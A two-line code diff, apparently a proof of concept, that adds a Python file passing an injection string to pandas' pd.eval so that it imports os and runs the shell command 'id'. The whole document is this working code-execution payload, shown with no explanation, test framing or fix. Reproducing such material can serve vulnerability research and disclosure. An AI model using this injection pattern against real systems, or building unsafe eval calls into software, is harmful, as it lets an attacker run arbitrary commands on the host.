@@ -1,0 +1,2 @@
+import pandas as pd
+pd.eval("@__import__('os').system('id')")
